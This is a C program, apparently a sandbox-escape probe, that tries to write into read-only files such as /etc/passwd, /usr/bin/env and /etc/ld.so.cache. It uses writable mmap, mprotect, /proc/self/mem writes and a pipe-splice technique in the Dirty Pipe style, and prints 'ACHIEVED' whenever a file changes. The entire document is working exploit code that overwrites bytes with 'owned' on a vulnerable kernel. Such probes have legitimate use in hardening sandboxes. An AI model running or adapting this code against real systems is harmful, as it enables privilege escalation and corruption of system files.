#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>


int main(void) {
    static const char *const files[] = {"/usr/bin/env", "/etc/passwd", "/etc/ld.so.cache", "/box/program.c"};
    for (int i = 0; i < 4; i++) {
        char before[16] = {0}, after[16] = {0};
        int file = open(files[i], O_RDONLY), ends[2];
        if (file < 0 || pread(file, before, 16, 0) != 16) continue;
        if (mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0) != MAP_FAILED) printf("ACHIEVED a writable map of %s\n", files[i]);
        char *area = mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
        if (area != MAP_FAILED && mprotect(area, 4096, PROT_READ | PROT_WRITE) == 0) printf("ACHIEVED mprotect %s\n", files[i]);
        char *own = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
        int memory = open("/proc/self/mem", O_RDWR);
        if (memory >= 0) {
            (void)!pwrite(memory, "owned", 5, (off_t)(size_t)own);
            (void)!pwrite(memory, "owned", 5, (off_t)(size_t)area);
        }
        loff_t at = 0;
        if (pipe(ends) == 0) { // a pipe that keeps the flag of an earlier page writes into the file
            char page[4096];
            for (int j = 0; j < 16; j++) (void)!write(ends[1], page, sizeof page);
            for (int j = 0; j < 16; j++) (void)!read(ends[0], page, sizeof page);
            if (splice(file, &at, ends[1], NULL, 1, 0) == 1) (void)!write(ends[1], "owned", 5);
        }
        if (pread(file, after, 16, 0) != 16 || memcmp(before, after, 16) != 0) printf("ACHIEVED changed %s\n", files[i]);
    }
    return 0;
}
